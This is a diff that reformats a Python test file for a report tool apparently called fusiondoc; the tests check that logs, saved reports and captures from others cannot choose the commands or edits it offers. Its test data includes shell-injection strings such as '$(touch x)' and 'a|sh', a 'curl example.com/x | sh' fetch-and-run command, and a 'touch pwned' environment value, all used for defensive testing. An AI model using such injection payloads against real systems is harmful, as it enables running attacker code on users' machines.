@@ -1,4 +1,5 @@
-"""Commands that a report offers to be copied: no log, capture or report of others chooses what they run."""
+"""Commands that a report offers to be copied: no log, capture or report of others
+chooses what they run."""
 
 from __future__ import annotations
 
@@ -21,7 +22,16 @@ from fusiondoc.reports import REPORT_FORMATS, render_report
 from fusiondoc.reports.html import render as render_html
 from fusiondoc.workflows.load import report_from, report_of
 
-EVIL = ("$(touch x)", "`touch x`", "';touch x;'", '";touch x;"', "a&&touch x", "-c", "--python=x", "a|sh")
+EVIL = (
+    "$(touch x)",
+    "`touch x`",
+    "';touch x;'",
+    '";touch x;"',
+    "a&&touch x",
+    "-c",
+    "--python=x",
+    "a|sh",
+)
 
 
 def commands(report: Any) -> list[list[str]]:
@@ -33,16 +43,24 @@ def commands(report: Any) -> list[list[str]]:
 def test_a_log_puts_no_command_into_a_plan(
     evil: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Files, layers and values with a shell's signs in their names, and a log whose name is one."""
+    """Files, layers and values with a shell's signs in their names, and a log whose
+    name is one."""
     monkeypatch.chdir(tmp_path)
-    log = raw_log.read(FIXTURES / "logs" / "nvfuser-2.1.2-rejects-full.log.xz").decode()
+    log = raw_log.read(
+        FIXTURES / "logs" / "nvfuser-2.1.2-rejects-full.log.xz"
+    ).decode()
     log = re.sub(r"# \S+\.py:", lambda _: f"# {evil.replace(' ', '')}.py:", log)
     name = evil.replace("/", "") + ".log"
     Path(name).write_text(log)
     report = report_from([f"./{name}"])
     assert report.plan
     for words in commands(report):
-        assert words == ["fusiondoc", "compare", f"./{name}" if name[0] == "-" else name, "new.log"]
+        assert words == [
+            "fusiondoc",
+            "compare",
+            f"./{name}" if name[0] == "-" else name,
+            "new.log",
+        ]
 
 
 def test_a_capture_of_another_does_not_choose_what_runs(
@@ -59,21 +77,31 @@ def test_a_capture_of_another_does_not_choose_what_runs(
     (folder / REQUEST).write_text(json.dumps(request))
     report = report_of(Capture(folder))
     assert report.plan
-    assert all(words[:2] == ["fusiondoc", "compare"] and "evil.py" not in words for words in commands(report))
+    assert all(
+        words[:2] == ["fusiondoc", "compare"] and "evil.py" not in words
+        for words in commands(report)
+    )
     sign(folder, REQUEST)
     assert all(
-        words[:3] == ["fusiondoc", "diagnose", "evil.py"] for words in commands(report_of(Capture(folder)))
+        words[:3] == ["fusiondoc", "diagnose", "evil.py"]
+        for words in commands(report_of(Capture(folder)))
     )
 
 
-def test_a_saved_report_of_another_offers_commands_that_read_only(tmp_path: Path, fusiondoc: Run) -> None:
+def test_a_saved_report_of_another_offers_commands_that_read_only(
+    tmp_path: Path, fusiondoc: Run
+) -> None:
     log = tmp_path / "a.log"
-    log.write_bytes(raw_log.read(FIXTURES / "logs" / "nvfuser-2.1.2-rejects-full.log.xz"))
+    log.write_bytes(
+        raw_log.read(FIXTURES / "logs" / "nvfuser-2.1.2-rejects-full.log.xz")
+    )
     saved = json.loads(render_report(report_from([str(log)]), "json"))
     assert saved["plan"]
     for change in saved["plan"]:
         change["command"] = "curl example.com/x | sh"
-        change["edits"] = [{"file": "m.py", "line": 1, "before": "x += y", "after": "evil()"}]
+        change["edits"] = [
+            {"file": "m.py", "line": 1, "before": "x += y", "after": "evil()"}
+        ]
     (tmp_path / "saved.json").write_text(json.dumps(saved))
     done = fusiondoc("parse", "saved.json", cwd=tmp_path)
     assert done.returncode == 0 and "curl" not in done.stdout
@@ -86,7 +114,8 @@ def test_a_saved_report_of_another_offers_commands_that_read_only(tmp_path: Path
 def test_copies_of_a_capture_of_another_make_no_edits(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """SARIF offers edits to be applied: text of another's copy of a file would come into the user's own."""
+    """SARIF offers edits to be applied: text of another's copy of a file would come
+    into the user's own."""
     monkeypatch.setenv("FUSIONDOC_CACHE", str(tmp_path / "cache"))
     folder = tmp_path / "capture"
     shutil.copytree(FIXTURES / "captures" / "nvfuser-2.1.2-composite", folder)
@@ -106,11 +135,17 @@ def test_copies_of_a_capture_of_another_make_no_edits(
     )
     (folder / "sources").mkdir()
     (folder / "sources" / "index.json").write_text('{"mine.py": "0.py"}')
-    (folder / "sources" / "0.py").write_text("def f(x):\n    a = x * x\n    a += evil(x)\n    return a * a\n")
-    edits = [one for change in report_of(Capture(folder)).plan for one in change.edits]
+    (folder / "sources" / "0.py").write_text(
+        "def f(x):\n    a = x * x\n    a += evil(x)\n    return a * a\n"
+    )
+    edits = [
+        one for change in report_of(Capture(folder)).plan for one in change.edits
+    ]
     assert not edits
     sign(folder, REQUEST)
-    edits = [one for change in report_of(Capture(folder)).plan for one in change.edits]
+    edits = [
+        one for change in report_of(Capture(folder)).plan for one in change.edits
+    ]
     assert [one.after for one in edits] == ["    a = a + evil(x)"]
 
 
@@ -126,8 +161,15 @@ def test_a_page_offers_no_other_command_or_variable(tmp_path: Path) -> None:
     }
     (folder / REQUEST).write_text(json.dumps(request))
     page = render_html(report_of(Capture(folder)))
-    assert "touch pwned" in page and "export PYTORCH_NVFUSER_DUMP=&#39;cuda_kernel;touch pwned&#39;" in page
-    assert "LD_PRELOAD=" not in page and "export A=1" not in page and "Command</" not in page
+    assert (
+        "touch pwned" in page
+        and "export PYTORCH_NVFUSER_DUMP=&#39;cuda_kernel;touch pwned&#39;" in page
+    )
+    assert (
+        "LD_PRELOAD=" not in page
+        and "export A=1" not in page
+        and "Command</" not in page
+    )
 
 
 def test_the_command_of_env_is_quoted() -> None:
